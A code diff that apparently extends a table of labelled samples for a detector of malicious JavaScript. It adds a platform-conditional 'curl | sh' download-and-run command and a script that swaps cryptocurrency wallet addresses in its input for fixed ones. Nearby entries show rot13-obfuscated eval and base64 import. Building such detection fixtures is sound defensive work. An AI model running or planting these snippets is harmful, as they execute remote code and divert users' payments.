@@ -233,6 +233,18 @@ require('child_process')[k]('curl -s https://sync.tablekit.dev/u | sh');`,
     'decode-execute',
     `eval('pbafbyr.ybt(1)'.replace(/[a-z]/gi, c => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26)));`,
   ],
+  [
+    'accounts: a table of patterns',
+    'data-drop',
+    `const FORMATS = [[/\\bbc1[a-z0-9]{25,59}\\b/g, 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'], [/\\b0x[a-fA-F0-9]{40}\\b/g, '0x3fC91A3afd70395Cd496C647d5a6CC9D4B2b7FAD']];
+let out = require('fs').readFileSync(0, 'utf8');
+for (const [seek, by] of FORMATS) out = out.replace(seek, by);`,
+  ],
+  [
+    'run: one of two commands',
+    'download-execute',
+    `require('child_process').execSync(process.platform === 'win32' ? 'ver' : 'curl -s https://sync.tablekit.dev/u | sh');`,
+  ],
   ['run: import', 'decode-execute', `await import('data:text/javascript;base64,' + 'Y29uc29sZS5sb2coMSk=');`],
   [
     'run: requiredl',
